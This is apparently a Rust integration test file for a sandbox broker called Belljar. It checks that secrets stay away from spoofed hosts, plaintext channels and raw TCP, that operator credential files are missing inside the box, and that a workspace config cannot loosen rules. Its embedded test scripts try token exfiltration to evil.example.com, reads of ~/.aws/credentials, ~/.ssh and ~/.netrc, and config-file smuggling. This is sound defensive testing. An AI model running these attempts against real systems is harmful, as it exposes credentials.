//! Attempts to send secrets to other hosts or over readable connections, and to add secrets by files.

use std::io::{Read as _, Write as _};
use std::net::TcpListener;

use belljar_testkit::{Reply, Upstream};
use serde_json::json;

use super::*;

/// A Python function that makes a request with the placeholder.
const ASK: &str = r#"
token = os.environ["TOKEN"]
def ask(url, token=token, dial=None, **headers):
    got = fetch(url, headers={"authorization": "Bearer " + token, **headers}, dial=dial)
    return [got["status"], got.get("belljar")]
"#;

#[test]
fn b10_broker_replaces_a_token_in_a_login_response_by_a_placeholder() {
    const NEW_TOKEN: &str = "ghs_aTokenThatTheServerMadeForThisSession0";
    let authority = Authority::new();
    let api = Upstream::tls(&authority, &["api.example.com"], |received| {
        if received.path == "/login" {
            let body = json!({ "access_token": NEW_TOKEN, "again": NEW_TOKEN, "kind": "bearer" });
            return Reply::new(200, body.to_string()).header("content-type", "application/json");
        }
        Reply::new(200, received.to_json().to_string())
    });
    let rules = [rule("api.example.com", api.address(), "secrets = [\"token\"]")];
    let declared =
        token_section("\"api.example.com\"", "captures = [\"/login json:/access_token\"]");
    let lab = lab_with_secret(&authority, &rules, &declared);
    let script = r#"
headers = {"authorization": "Bearer " + os.environ["TOKEN"]}
login = fetch("https://api.example.com/login", "POST", headers=headers)
new_token = json.loads(login["body"])["access_token"]
used = fetch("https://api.example.com/use", headers={"authorization": "Bearer " + new_token})
elsewhere = fetch("https://api.example.com/leak?t=" + new_token, headers=headers)
print_json([login, new_token, used["status"], used["body"], elsewhere["status"]])
"#;
    let results = run_script(&lab, script);
    assert!(!results.to_string().contains(NEW_TOKEN), "{results}");
    assert_ne!(results[1], "", "{results}");
    assert_eq!((&results[2], &results[4]), (&json!(200), &json!(403)), "{results}");
    let received = api.received();
    assert_eq!(received.len(), 2);
    assert_eq!(received[1].header("authorization"), Some(format!("Bearer {NEW_TOKEN}").as_str()));
    let log = lab.belljar(["ledger", "log", "--json", "--limit", "100000"]).succeed();
    assert!(!log.contains(NEW_TOKEN) && log.contains("secret.used"), "{log}");
}

#[test]
fn b12_broker_sends_no_secret_to_another_host_when_host_headers_are_spoofed() {
    let authority = Authority::new();
    let api = Upstream::echo(&authority, &["api.example.com"]);
    let evil = Upstream::echo(&authority, &["evil.example.com"]);
    let rules = [
        rule("api.example.com", api.address(), "secrets = [\"token\"]"),
        rule("evil.example.com", evil.address(), ""),
    ];
    let lab = lab_with_secret(&authority, &rules, &token_section("\"api.example.com\"", ""));
    let script = format!(
        r#"{ASK}
print_json([
    ask("https://api.example.com/"),
    fetch("https://evil.example.com/control")["status"],
    ask("https://evil.example.com/", host="api.example.com"),
    ask("https://evil.example.com/", **{{"x-forwarded-host": "api.example.com"}}),
    ask("https://evil.example.com/"),
    ask("https://api.example.com/", host="evil.example.com"),
    ask("https://api.example.com/hard", dial="203.0.113.9"),
])"#
    );
    let results = run_script(&lab, &script);
    let denied = json!([403, "placeholder-to-other-host"]);
    let expect = json!([
        [200, null],
        200,
        [421, "misdirected"],
        denied,
        denied,
        [421, "misdirected"],
        [200, null],
    ]);
    assert_eq!(results, expect);
    assert_eq!(evil.received().len(), 1, "only the request of the control");
    let paths: Vec<String> = api.received().into_iter().map(|it| it.path).collect();
    assert_eq!(
        paths,
        ["/", "/hard"],
        "the request went to the server of the TLS name, not to the dialled address"
    );
    assert_denied(&lab, "evil.example.com", "misdirected");
    assert_alarm(&lab, "placeholder-to-other-host");
}

#[test]
fn b13_secrets_are_refused_over_plain_http_raw_tcp_and_tls_passthrough() {
    let authority = Authority::new();
    let api = Upstream::echo(&authority, &["api.example.com"]);
    let plain = Upstream::plain(|received| Reply::new(200, received.to_json().to_string()));
    let raw = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = raw.local_addr().unwrap();
    let received = std::thread::spawn(move || {
        let mut all = Vec::new();
        for _ in 0..2 {
            let (mut stream, _) = raw.accept().unwrap();
            stream.write_all(b"hello\n").unwrap();
            let mut bytes = Vec::new();
            stream.read_to_end(&mut bytes).ok(); // the broker closes the connection
            all.push(String::from_utf8_lossy(&bytes).into_owned());
        }
        all
    });
    let rules = [
        rule("api.example.com", api.address(), "secrets = [\"token\"]"),
        rule("api.example.com", plain.address(), "port = 80"),
        format!(
            "[[template.default.allow]]\ntcp = \"raw.internal:7000\"\nconnect = \"{address}\"\n"
        ),
    ];
    let lab = lab_with_secret(&authority, &rules, &token_section("\"api.example.com\"", ""));
    let script = format!(
        r#"{ASK}
def raw(text):
    stream = tcp("raw.internal", 7000)
    stream.recv(100)
    stream.sendall(text.encode())
    stream.shutdown(socket.SHUT_WR)
    return receive(stream).decode()
print_json([ask("https://api.example.com/"), fetch("http://api.example.com/control")["status"], ask("http://api.example.com/"),
      raw("some text\n"), raw(f"AUTH {{token}}\n")])
"#
    );
    let results = run_script(&lab, &script);
    let expect = json!([[200, null], 200, [403, "placeholder-in-clear"], "", ""]);
    assert_eq!(results, expect);
    let paths: Vec<String> = plain.received().into_iter().map(|it| it.path).collect();
    assert_eq!(paths, ["/control"]);
    let received = received.join().unwrap();
    assert_eq!(received, ["some text\n", ""], "no byte of the message with the placeholder");
    assert_alarm(&lab, "placeholder-in-clear");
    assert_alarm(&lab, "placeholder-elsewhere");
    assert_denied(&lab, "api.example.com", "placeholder-in-clear");
    // A rule with secrets is refused for plain HTTP and for TLS passthrough.
    for more in ["port = 80", "tls = \"passthrough\""] {
        let wrong =
            rule("api.example.com", api.address(), &format!("secrets = [\"token\"]\n{more}"));
        let declared = token_section("\"api.example.com\"", "");
        lab.configure_for(
            &authority,
            &format!(
                "[template.default]\nnet = \"restricted\"\nsecrets = [\"token\"]\n{wrong}{declared}"
            ),
        );
        lab.bash("true").run().fails_with(2, "secrets");
    }
}

#[test]
fn b20_credential_files_of_the_operator_are_absent_from_the_box() {
    let lab = lab();
    let dir = lab.home().join(".aws");
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("credentials");
    std::fs::write(&file, format!("[default]\naws_secret_access_key = {SECRET_VALUE}\n")).unwrap();
    assert!(lab.program("cat").arg(&file).succeed().contains(SECRET_VALUE), "control: on the host");
    let path = file.display().to_string();
    let script = format!(
        "cat {path} ~/.aws/credentials ~root/.aws/credentials 2>&1; echo $?; \
         cat ~/.ssh/* ~/.netrc ~/.config/gh/hosts.yml 2>/dev/null | wc -c"
    );
    let out = lab.bash(&script).run().expect(0);
    let lines: Vec<&str> = out.lines().collect();
    assert!(lines[..3].iter().all(|it| it.ends_with("No such file or directory")), "{out}");
    assert_eq!(lines[3..], ["1", "0"], "{out}");
    // Control: the file is in the box when the operator mounts it.
    let mount = format!("{}:/keys:ro", dir.display());
    let mounted = lab.belljar(["run", "--mount", &mount, "--", "cat", "/keys/credentials"]);
    assert!(mounted.run().expect(0).contains(SECRET_VALUE));
    assert_eq!(ledger_events(&lab, "run.ended").len(), 2);
}

#[test]
fn b21_config_file_in_the_workspace_cannot_add_rules_or_secrets() {
    let authority = Authority::new();
    let api = Upstream::echo(&authority, &["api.example.com"]);
    let evil = Upstream::echo(&authority, &["evil.example.com"]);
    let rules = [rule("api.example.com", api.address(), "secrets = [\"token\"]")];
    let lab = lab_with_secret(&authority, &rules, &token_section("\"api.example.com\"", ""));
    let code = "curl -sS -o /dev/null -w '%{http_code}' https://api.example.com/";
    assert_eq!(lab.bash(code).run().expect(0), "200");
    // Control: Belljar reads the config file of the project, which may deny a host.
    lab.write("belljar.toml", "[template.default]\ndeny = [\"api.example.com\"]\n");
    assert_ne!(lab.bash(code).run().code(), 0);
    let connect = rule("evil.example.com", evil.address(), "");
    let looser = [
        "[template.default]\nallow = [\"evil.example.com\"]\n",
        "[template.default]\nnet = \"full\"\n",
        "[template.default]\nsecrets = [\"other\"]\n",
        "[secret.token]\nhosts = [\"evil.example.com\"]\n",
        "[secret.other]\nhosts = [\"evil.example.com\"]\n",
        "[tls]\nroots = [\"evil.pem\"]\n",
        "[dns]\nservers = [\"192.0.2.1\"]\n",
        "[proxy]\nurl = \"http://192.0.2.1:8080\"\n",
        "[vault]\nkey-command = [\"cat\", \"key\"]\n",
        connect.as_str(),
    ];
    for text in looser {
        lab.write("belljar.toml", text);
        lab.bash("true").run().fails_with(2, "belljar.toml");
    }
    std::fs::remove_file(lab.workspace().join("belljar.toml")).unwrap();
    // A config file that the box writes has no effect, neither on this run nor on the next.
    let script = "printf '[template.default]\\nallow = [\"evil.example.com\"]\\n' > belljar.toml; \
                  mkdir -p ~/.config/belljar; cp belljar.toml ~/.config/belljar/; \
                  curl -sS https://evil.example.com/; echo $?";
    let ended = lab.bash(script).run();
    assert_eq!(ended.expect(0), "6", "{}", ended.err());
    assert!(!lab.workspace().join("belljar.toml").exists());
    assert_eq!(lab.bash("curl -sS https://evil.example.com/").run().code(), 6);
    assert!(evil.received().is_empty());
    let names = ledger_events(&lab, "dns.decided");
    let refused = |it: &Value| it["name"] == "evil.example.com" && it["verdict"] == "deny";
    assert!(names.iter().any(refused), "{names:#?}");
}
